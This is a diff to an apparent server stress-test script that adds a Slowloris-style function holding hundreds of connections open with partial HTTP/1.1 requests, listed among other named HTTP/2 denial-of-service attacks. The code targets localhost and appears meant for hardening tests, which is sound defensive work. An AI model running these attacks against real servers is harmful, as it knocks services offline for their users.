@@ -287,6 +287,23 @@ def slowloris(port, seconds, report, count=300):
         c.close()
 
 
+def http1_slowloris(port, seconds, report, count=300):
+    """HTTP/1.1 on the same port: connections that send part of a request head, or a whole
+    head and part of its body, and then nothing."""
+    conns = []
+    for i in range(count):
+        try:
+            c = Conn(port, report, read=False, handshake=False)
+        except OSError:
+            break
+        c.send(b"POST /v3/kv/range HTTP/1.1\r\nHost: localhost\r\nContent-Le" if i % 2 == 0 else
+               b"POST /v3/kv/range HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\n{\"key\":")
+        conns.append(c)
+    time.sleep(seconds)
+    for c in conns:
+        c.close()
+
+
 def idle_connections(port, seconds, report, count=2000):
     """Connections that complete the handshake and then sit idle."""
     conns = []
@@ -306,7 +323,7 @@ def idle_connections(port, seconds, report, count=2000):
 ATTACKS = {f.__name__: f for f in [
     hpack_bomb, oversized_header_list, continuation_flood, rapid_reset, settings_flood,
     ping_flood, window_update_flood, priority_flood, empty_data_flood, zero_window, never_read,
-    slowloris, idle_connections]}
+    slowloris, http1_slowloris, idle_connections]}
 
 
 def main():
